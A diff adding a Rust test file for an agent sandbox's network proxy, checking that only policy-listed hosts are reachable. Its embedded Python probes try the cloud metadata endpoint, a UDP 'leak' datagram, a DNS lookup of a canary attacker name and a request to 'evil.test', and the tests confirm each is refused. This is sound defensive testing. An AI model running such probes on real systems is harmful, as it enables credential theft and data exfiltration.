@@ -1,0 +1,193 @@
+//! Section C: what a session's programs reach, by the proxy's port and without knowing of it, from the agent and from a command.
+
+use std::io::{Read as _, Write as _};
+use std::net::{IpAddr, TcpListener, UdpSocket};
+
+use serde_json::json;
+
+use crate::fixture::{Scene, Step, agent, command};
+
+fn both(code: &str) -> [Step; 2] {
+    [agent(code), command(code)]
+}
+
+/// A server that answers every request with its line.
+fn server(address: IpAddr) -> u16 {
+    let listener = TcpListener::bind((address, 0)).unwrap();
+    let port = listener.local_addr().unwrap().port();
+    std::thread::spawn(move || {
+        for mut stream in listener.incoming().flatten() {
+            let mut head = Vec::new();
+            let mut byte = [0];
+            while !head.ends_with(b"\r\n\r\n") && stream.read(&mut byte).unwrap_or(0) == 1 {
+                head.push(byte[0]);
+            }
+            let line = String::from_utf8_lossy(&head)
+                .lines()
+                .next()
+                .unwrap_or_default()
+                .to_owned();
+            let answer = format!(
+                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{line}",
+                line.len()
+            );
+            let _gone = stream.write_all(answer.as_bytes());
+        }
+    });
+    port
+}
+
+/// An address of this machine that is not loopback; none without a network.
+fn own_address() -> Option<IpAddr> {
+    let socket = UdpSocket::bind("0.0.0.0:0").ok()?;
+    socket.connect("192.0.2.1:9").ok()?;
+    let address = socket.local_addr().ok()?.ip();
+    (!address.is_unspecified() && !address.is_loopback()).then_some(address)
+}
+
+/// Asks by the proxy's port, and by a plain connection that knows of no proxy.
+const ASK: &str = "
+import http.client
+def by_proxy(host, port, path):
+    c = http.client.HTTPConnection('127.0.0.1', 7072, timeout=60)
+    c.request('GET', 'http://%s:%d%s' % (host, port, path)); r = c.getresponse()
+    return '%d %s' % (r.status, r.read().decode())
+def plainly(host, port, path):
+    c = http.client.HTTPConnection(host, port, timeout=60)
+    c.request('GET', path); r = c.getresponse()
+    return '%d %s' % (r.status, r.read().decode())
+";
+
+fn policy(hosts: &str) -> String {
+    format!(
+        "[capabilities]\nread_files = \"always\"\nrun_bash = \"always\"\nweb_fetch = \"low_risk\"\n[network]\nhosts = [{hosts}]\n"
+    )
+}
+
+fn quiet(host: &str) -> String {
+    format!("{{ host = \"{host}\", methods = [\"GET\"], paths = [\"/open/**\"], sink = false }}")
+}
+
+/// C1, C11: with and without the proxy's variables, a listed host is reached and no other.
+#[test]
+fn a_listed_host_is_reached_by_either_way_and_another_by_neither() {
+    let scene = Scene::new();
+    let near = server(IpAddr::from([127, 0, 0, 1]));
+    let mut hosts = quiet(&format!("127.0.0.1:{near}"));
+    let mut tries = String::from(
+        "got = each(proxy=lambda: by_proxy('127.0.0.1', NEAR, '/open/a'), shut=lambda: by_proxy('127.0.0.1', NEAR, '/shut'), name=lambda: plainly('unlisted.test', 80, '/open/a'), literal=lambda: plainly('192.0.2.7', 80, '/open/a'), metadata=lambda: plainly('169.254.169.254', 80, '/open/a'), near=lambda: plainly('127.0.0.1', NEAR, '/open/a')",
+    );
+    let own = own_address();
+    if let Some(own) = own {
+        let port = server(own);
+        hosts.push_str(&format!(", {}", quiet(&format!("{own}:{port}"))));
+        tries.push_str(&format!(
+            ", plain=lambda: plainly('{own}', {port}, '/open/a')"
+        ));
+    }
+    tries.push_str(")\n");
+    let session = scene
+        .session()
+        .policy(&policy(&hosts))
+        .word("NEAR", json!(near));
+    let ended = session.run(&both(&format!("{ASK}{tries}")));
+    ended.assert_sound();
+    assert_eq!(ended.told.len(), 2, "{}", ended.stdout);
+    for told in &ended.told {
+        let got = |name: &str| {
+            told.got()[name]["got"]
+                .as_str()
+                .unwrap_or_default()
+                .to_owned()
+        };
+        assert!(got("proxy").contains("200 GET /open/a"), "{}", told.0);
+        assert!(
+            own.is_none() || got("plain").contains("200 GET /open/a"),
+            "{}",
+            told.0
+        );
+        for refused in ["shut", "name", "literal", "metadata"] {
+            let said = got(refused);
+            assert!(
+                said.contains("403") && said.contains("reason"),
+                "{refused}: {}",
+                told.0
+            );
+        }
+        assert_eq!(told.got()["near"]["errno"], "ECONNREFUSED", "{}", told.0);
+    }
+    assert!(ended.refusals().len() >= 6, "{:?}", ended.refusals());
+}
+
+/// C2, C3: names stay in the machine, datagrams in the jail.
+#[test]
+fn a_look_up_tells_nobody_and_a_datagram_goes_nowhere() {
+    let scene = Scene::new();
+    let code = "
+def udp(port):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); return s.sendto(b'leak', ('192.0.2.7', port))
+def by_name(name): return socket.getaddrinfo(name, 80, socket.AF_INET)[0][4][0]
+got = each(quic=lambda: udp(443), name=lambda: by_name('c4n4ry.attacker.test'))
+";
+    let session = scene.session().policy(&policy("\"listed.test\""));
+    let ended = session.run(&both(code));
+    ended.assert_sound();
+    for told in &ended.told {
+        assert_eq!(told.got()["quic"]["errno"], "EPERM", "{}", told.0);
+        // The address stands for the name in this session, and for nothing outside it.
+        let address = told.got()["name"]["got"].as_str().unwrap_or_default();
+        assert!(address.contains("198.18."), "{}", told.0);
+    }
+}
+
+/// Without the operation there is no way out at all, and no wait for one.
+#[test]
+fn a_policy_that_fetches_nothing_has_no_network() {
+    let scene = Scene::new();
+    let ended = scene.session().run(&both(&format!(
+        "{ASK}got = each(proxy=lambda: by_proxy('192.0.2.7', 80, '/'), plain=lambda: plainly('192.0.2.7', 80, '/'))\n"
+    )));
+    ended.assert_sound();
+    for told in &ended.told {
+        assert_eq!(told.got()["proxy"]["errno"], "ECONNREFUSED", "{}", told.0);
+        assert_eq!(told.got()["plain"]["errno"], "ENETUNREACH", "{}", told.0);
+    }
+}
+
+/// `nucleus net log` shows what was reached and what was refused.
+#[test]
+fn what_was_reached_is_shown_by_program_and_host() {
+    let scene = Scene::new();
+    let near = server(IpAddr::from([127, 0, 0, 1]));
+    let hosts = quiet(&format!("127.0.0.1:{near}"));
+    let code = format!(
+        "{ASK}got = each(good=lambda: by_proxy('127.0.0.1', {near}, '/open/a'), bad=lambda: by_proxy('evil.test', 80, '/'))\n"
+    );
+    let ended = scene
+        .session()
+        .policy(&policy(&hosts))
+        .run(&[command(&code)]);
+    ended.assert_sound();
+    let shown = scene.nucleus(&["net", "log", "--json"]).output().unwrap();
+    let text = String::from_utf8(shown.stdout).unwrap();
+    let entries: Vec<serde_json::Value> = text
+        .lines()
+        .map(|line| serde_json::from_str(line).unwrap())
+        .collect();
+    let verdict = |target: &str| {
+        let found = entries.iter().find(|entry| entry["target"] == target);
+        found.map(|entry| entry["verdict"].as_str().unwrap().to_owned())
+    };
+    assert_eq!(
+        verdict(&format!("127.0.0.1:{near}")).as_deref(),
+        Some("permitted"),
+        "{text}"
+    );
+    assert_eq!(
+        verdict("evil.test:80").as_deref(),
+        Some("refused"),
+        "{text}"
+    );
+    let open = scene.nucleus(&["net", "top"]).output().unwrap();
+    assert!(open.status.success(), "{open:?}");
+}
